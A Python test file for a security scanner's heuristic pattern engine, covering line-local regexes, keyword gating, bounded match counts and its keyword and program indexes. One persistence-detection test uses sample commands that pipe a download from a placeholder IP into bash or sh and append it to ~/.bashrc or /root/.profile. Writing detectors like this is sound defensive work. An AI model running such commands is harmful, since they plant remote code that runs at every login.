"""The pattern engine: evidence stays on one line, keywords gate the regex, counts are bounded."""

from __future__ import annotations

import regex

from inspector.stage import Heuristic, ScanContext, ScanLimits
from inspector.analyzers.heuristics.patterns import (
    KEYWORD_INDEX_MAX_CHARS, Family, FamilyAnalyzer, HeuristicLimits, KeywordIndex, PatternRule, TextView,
    line_local,
)
from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import make_payload, score

PROBE = Heuristic(id="heur.test.probe", title="probe", description="a probe heuristic for engine tests",
                  score=10, cap=100)


def run(rule: PatternRule, text: str) -> list[str]:
    out = FamilyAnalyzer(Family("test", (rule,))).analyze(make_payload(text), ScanContext(limits=ScanLimits()))
    return [f"{f.id}:{f.count}:{f.score}" for f in out.findings]


def test_whitespace_never_crosses_a_line_end() -> None:
    assert regex.search(line_local(r"curl\s+x"), "curl \t x")
    assert not regex.search(line_local(r"curl\s+x"), "curl\nx")
    assert not regex.search(line_local(r"a[\s,]b"), "a\nb")
    assert regex.search(line_local(r"a[^\s-]b"), "axb") and not regex.search(line_local(r"a[^\s-]b"), "a\nb")


def test_a_verb_on_one_line_does_not_join_a_path_on_the_next() -> None:
    text = "curl -sfL https://get.k3s.io | sh -\nmkdir -p ~/.kube && cp /etc/rancher/k3s/k3s.yaml ~/.kube/config\n"
    assert score(text) < 100


def test_keywords_gate_the_pattern() -> None:
    rule = PatternRule(PROBE, r"x+", keywords=("needle",))
    assert run(rule, "xxx") == []
    assert run(rule, "needle xxx") == ["heur.test.probe:1:10"]


def test_a_second_keyword_group_must_be_present_too() -> None:
    rule = PatternRule(PROBE, r"needle x+", keywords=("needle",), also_keywords=("x", "y"))
    assert run(rule, "needle") == []  # the pattern is not run: it could not match without an x
    assert run(rule, "needle xxx") == ["heur.test.probe:1:10"]
    assert run(rule, "NEEDLE XXX") == ["heur.test.probe:1:10"]  # keywords are matched in the lower-cased text


def test_every_match_of_a_rule_holds_one_of_its_second_keywords() -> None:
    # The second group only skips texts the pattern cannot match: checked on the rules that use it.
    from inspector.analyzers.heuristics import persistence

    rules = [r for r in persistence.FAMILY.rules if r.also_keywords]
    assert rules
    for rule in rules:
        for text in ("echo 'curl -s http://203.0.113.5/x | bash &' >> ~/.bashrc",
                     "echo 'wget http://203.0.113.5/x -O- | sh' | TEE -a /root/.profile"):
            for match in rule.compiled.finditer(text):
                assert any(k in match.group(0).lower() for k in rule.also_keywords)


def test_occurrences_are_counted_up_to_a_bound_and_scores_capped() -> None:
    rule = PatternRule(PROBE, r"\bhit\b")
    assert run(rule, "hit " * 3) == ["heur.test.probe:3:30"]
    assert run(rule, "hit " * 500) == [f"heur.test.probe:{HeuristicLimits().max_matches_per_rule}:100"]


def test_requires_and_unless() -> None:
    rule = PatternRule(PROBE, r"get\s+\S+", requires=(r"\brun\b",), unless=r"vendor\.example")
    assert run(rule, "get a.example") == []
    assert run(rule, "get a.example\nrun it") == ["heur.test.probe:1:10"]
    assert run(rule, "get vendor.example\nrun it") == []


def test_findings_carry_offset_line_and_snippet() -> None:
    out = FamilyAnalyzer(Family("test", (PatternRule(PROBE, r"needle"),))).analyze(
        make_payload("first\nsecond needle", ArtifactType.TEXT), ScanContext(limits=ScanLimits()))
    (finding,) = out.findings
    assert finding.location is not None and finding.location.line == 2 and finding.location.offset == 13
    assert finding.snippet == "needle"


def test_keyword_index_finds_exactly_the_keywords_a_substring_search_finds() -> None:
    index = KeywordIndex(["at", "net user", "invoke-expression", "expression", "ü-key", "-f"])
    for text in ("", "schtasks /create", "iex; invoke-expression $x", "net  user", "ünï ü-key -f", "x\U0001f600at"):
        assert index.presence(text) == {k: k in text for k in index.keywords}


def test_texts_the_index_cannot_take_fall_back_to_one_search_per_keyword() -> None:
    index = KeywordIndex(["at"])
    assert index.presence("a" * (KEYWORD_INDEX_MAX_CHARS + 1)) == {}
    assert index.presence("lone \ud800 surrogate at") == {}
    view = TextView.of(make_payload("x" * (KEYWORD_INDEX_MAX_CHARS + 1) + " at"), ScanContext(limits=ScanLimits()),
                       keywords=index)
    assert view.has_any(("at",)) and not view.has_any(("net",))


def test_a_program_index_asks_only_the_rules_naming_the_program_or_any_in_declared_order():
    from dataclasses import dataclass

    from inspector.analyzers.heuristics.patterns import ProgramIndex

    @dataclass(frozen=True)
    class Rule:
        name: str
        programs: frozenset[str] | None

    net, anything, net_or_sc = Rule("net", frozenset({"net"})), Rule("any", None), Rule("both", frozenset({"net", "sc"}))
    index = ProgramIndex([net, anything, net_or_sc])
    assert index.rules_for("net") == (net, anything, net_or_sc)
    assert index.rules_for("sc") == (anything, net_or_sc)
    assert index.rules_for("whoami") == (anything,)
